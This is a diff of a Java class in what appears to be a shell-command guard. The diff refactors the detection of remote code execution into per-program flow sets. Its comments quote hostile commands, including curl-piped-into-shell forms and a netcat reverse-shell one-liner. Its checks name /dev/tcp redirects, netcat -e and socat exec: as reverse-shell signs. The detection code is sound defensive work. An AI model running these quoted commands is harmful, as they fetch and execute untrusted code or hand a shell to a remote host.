@@ -4,31 +4,65 @@ import io.github.providergateway.guard.shell.Redirect;
 import io.github.providergateway.guard.shell.Word;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.EnumSet;
 import java.util.HashSet;
+import java.util.IdentityHashMap;
 import java.util.List;
 import java.util.Locale;
+import java.util.Map;
 import java.util.Set;
 import java.util.regex.Pattern;
 
 /**
- * Running code fetched from the network ({@code curl … | sh}, {@code bash <(curl …)}, {@code eval
- * "$(curl …)"}), reverse shells, and, under paranoid, any fetch from a host that is not this
- * machine. The parse lists every program a command runs but not which feeds which, so a download to
- * standard output and a shell reading its standard input in the same command are read as the one
- * piped into the other.
+ * What a command does with what it fetches from the network, program by program, for the {@code
+ * remote.*} rules' predicates ({@link RemotePredicates}): code fetched and piped into a shell
+ * ({@code curl … | sh}), handed to one ({@code bash <(curl …)}, {@code eval "$(curl …)"}), saved
+ * and run, unpacked and run, decoded into a shell; a shell's input and output through a network
+ * connection; any fetch from a host that is not this machine. The parse lists every program a
+ * command runs but not which feeds which, so a download to standard output and a shell reading its
+ * standard input in the same command are read as the one piped into the other. The command is read
+ * once, in its order, as what a program does depends on what ran before it (a file downloaded, an
+ * archive unpacked).
  */
-final class RemoteRules implements Family {
-  static final BuiltinRule PIPE_TO_SHELL = RuleBook.rule("remote.pipe-to-shell");
-  static final BuiltinRule PROCESS_SUBSTITUTION = RuleBook.rule("remote.process-substitution");
-  static final BuiltinRule EVAL_DOWNLOAD = RuleBook.rule("remote.eval-download");
-  static final BuiltinRule REVERSE_SHELL = RuleBook.rule("remote.reverse-shell");
-  static final BuiltinRule FETCH = RuleBook.rule("remote.fetch");
+final class RemoteFlows {
+  /** What a program does with the network's code. */
+  enum Flow {
+    /** Runs a file of an archive the command fetched and unpacked. */
+    RUNS_UNPACKED,
+    /** Reads the network into a shell that an earlier program of the command feeds. */
+    SHELL_THROUGH_NETWORK,
+    /** Decodes text that a later shell of the command reads. */
+    DECODES_INTO_SHELL,
+    /** Runs a file the command fetched, or builds a repository it cloned. */
+    RUNS_DOWNLOAD,
+    /** Reads the network, not being a downloader, into a later shell. */
+    NETWORK_INTO_SHELL,
+    /** Fetches from a host that is not this machine. */
+    FETCHES,
+    /** Is a download a program running code is handed as a file ({@code <(curl …)}). */
+    PROCESS_SUBSTITUTION,
+    /** Is a download whose output a program running code is handed ({@code $(curl …)}). */
+    EVAL_DOWNLOAD,
+    /** Is a download to standard output that a later shell reads. */
+    PIPED_INTO_SHELL
+  }
 
-  static final BuiltinRule DECODED_TO_SHELL = RuleBook.rule("remote.decoded-to-shell");
-  static final BuiltinRule DOWNLOAD_EXEC = RuleBook.rule("remote.download-exec");
+  private RemoteFlows() {}
 
-  @Override
-  public void scan(Scan scan) {
+  /**
+   * What a program of the call does with the network's code.
+   *
+   * @param scan the call
+   * @param step the program
+   * @return what it does; empty for most programs
+   */
+  static Set<Flow> of(Scan scan, Step step) {
+    Set<Flow> flows = scan.once("RemoteFlows", RemoteFlows::read).get(step);
+    return flows == null ? Set.of() : flows;
+  }
+
+  private static Map<Step, Set<Flow>> read(Scan scan) {
+    Map<Step, Set<Flow>> found = new IdentityHashMap<>();
     List<Step> steps = scan.steps();
     boolean runner = false;
     int lastReader = -1;
@@ -47,32 +81,32 @@ final class RemoteRules implements Family {
     boolean extracted = false; // an archive from the network unpacked: its files are unknown
     for (int i = 0; i < steps.size(); i++) {
       Step step = steps.get(i);
+      Set<Flow> flows = EnumSet.noneOf(Flow.class);
       if (extracted && runsLocalFile(step)) {
-        scan.hit(DOWNLOAD_EXEC, step, null); // curl …/a.tgz | tar xz && ./a/install
+        flows.add(Flow.RUNS_UNPACKED); // curl …/a.tgz | tar xz && ./a/install
       }
       if (isExtractor(step) && (printedDownload || unpacksDownload(step, downloaded))) {
         extracted = true;
       }
-      reverseShell(scan, step);
       if (firstReader >= 0 && firstReader < i && readsNetwork(step) && !LocalUrls.only(step)) {
         // cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f: a shell's input and output through a
         // network connection, the best-known reverse shell.
-        scan.hit(REVERSE_SHELL, step, null);
+        flows.add(Flow.SHELL_THROUGH_NETWORK);
       }
       if (lastReader > i && decodes(step)) {
-        scan.hit(DECODED_TO_SHELL, step, null);
+        flows.add(Flow.DECODES_INTO_SHELL);
       }
       // A file run is looked for only once something was saved: most commands download nothing.
       String run = downloaded.isEmpty() ? null : FedCode.runs(step);
       if (run != null && (downloaded.contains(run) || clonedRun(step, downloaded))
           || !downloaded.isEmpty() && buildsClone(scan, step, downloaded)) {
-        scan.hit(DOWNLOAD_EXEC, step, null);
+        flows.add(Flow.RUNS_DOWNLOAD);
       }
       if (!downloaded.isEmpty() && step.interpreter()) {
         for (Redirect redirect : step.invocation().redirects()) {
           if (redirect.operator().equals("<")
               && downloaded.contains(base(redirect.target().text()))) {
-            scan.hit(DOWNLOAD_EXEC, step, null); // bash < f, f just downloaded
+            flows.add(Flow.RUNS_DOWNLOAD); // bash < f, f just downloaded
           }
         }
       }
@@ -88,28 +122,29 @@ final class RemoteRules implements Family {
       if (step.program().equals("git") && GitCommand.subcommandOf(step.args()).equals("clone")) {
         downloaded.addAll(cloneFolder(step));
       }
-      if (step.program().equals("deno") && runsFromNetwork(step)) {
-        scan.hit(DOWNLOAD_EXEC, step, null); // deno run https://…: code from the network, run
-      }
       if (!step.is(ProgramKind.DOWNLOADER)) {
         if (lastReader > i && readsNetwork(step)) {
-          scan.hit(PIPE_TO_SHELL, step, null);
+          flows.add(Flow.NETWORK_INTO_SHELL);
         }
-        continue;
+      } else {
+        if (!LocalUrls.only(step)) {
+          flows.add(Flow.FETCHES);
+        }
+        downloaded.addAll(savedAs(step));
+        printedDownload |= toStandardOutput(step);
+        if (step.reachedBy("<(") && runner) {
+          flows.add(Flow.PROCESS_SUBSTITUTION);
+        } else if ((step.reachedBy("$(") || step.reachedBy("`")) && runner) {
+          flows.add(Flow.EVAL_DOWNLOAD);
+        } else if (lastReader > i && toStandardOutput(step)) {
+          flows.add(Flow.PIPED_INTO_SHELL);
+        }
       }
-      if (!LocalUrls.only(step)) {
-        scan.hit(FETCH, step, null);
-      }
-      downloaded.addAll(savedAs(step));
-      printedDownload |= toStandardOutput(step);
-      if (step.reachedBy("<(") && runner) {
-        scan.hit(PROCESS_SUBSTITUTION, step, null);
-      } else if ((step.reachedBy("$(") || step.reachedBy("`")) && runner) {
-        scan.hit(EVAL_DOWNLOAD, step, null);
-      } else if (lastReader > i && toStandardOutput(step)) {
-        scan.hit(PIPE_TO_SHELL, step, null);
+      if (!flows.isEmpty()) {
+        found.put(step, flows);
       }
     }
+    return found;
   }
 
   /** A program that turns text into other text: base64 -d, xxd -r, tr, rev, gunzip, … */
@@ -237,8 +272,13 @@ final class RemoteRules implements Family {
     return false;
   }
 
-  /** {@code deno run URL}: a script fetched and run. */
-  private static boolean runsFromNetwork(Step step) {
+  /**
+   * {@code deno run URL}: a script fetched and run.
+   *
+   * @param step the program
+   * @return whether it runs a URL
+   */
+  static boolean runsFromNetwork(Step step) {
     List<Word> args = step.args();
     if (args.isEmpty() || !args.get(0).text().equals("run")) {
       return false;
@@ -467,14 +507,20 @@ final class RemoteRules implements Family {
     };
   }
 
-  private static void reverseShell(Scan scan, Step step) {
+  /**
+   * Whether a program gives a shell to a network connection: a redirect to {@code /dev/tcp/…},
+   * netcat's {@code -e}, socat's {@code exec:}, or {@code /dev/tcp/} among its arguments.
+   *
+   * @param step the program
+   * @return whether it does
+   */
+  static boolean reverseShell(Step step) {
     List<Redirect> redirects = step.invocation().redirects();
     for (int i = 0; i < redirects.size(); i++) { // indexed: most programs have none
       Redirect redirect = redirects.get(i);
       String target = redirect.target().text();
       if (target.startsWith("/dev/tcp/") || target.startsWith("/dev/udp/")) {
-        scan.hit(REVERSE_SHELL, step, null);
-        return;
+        return true;
       }
     }
     String program = step.program();
@@ -485,16 +531,14 @@ final class RemoteRules implements Family {
     if (netcat) {
       Argv argv = Argv.of(step.args(), "");
       if (argv.has('e') || argv.has('c') || argv.has("exec") || argv.has("sh-exec")) {
-        scan.hit(REVERSE_SHELL, step, null);
-        return;
+        return true;
       }
     }
     if (program.equals("socat")) {
       for (Word arg : step.args()) {
         String lower = arg.text().toLowerCase(Locale.ROOT);
         if (lower.startsWith("exec:") || lower.startsWith("system:")) {
-          scan.hit(REVERSE_SHELL, step, null);
-          return;
+          return true;
         }
       }
     }
@@ -506,9 +550,9 @@ final class RemoteRules implements Family {
       if (arg.length() >= "/dev/tcp/".length()
           && arg.contains("/dev/")
           && (arg.contains("/dev/tcp/") || arg.contains("/dev/udp/"))) {
-        scan.hit(REVERSE_SHELL, step, null);
-        return;
+        return true;
       }
     }
+    return false;
   }
 }
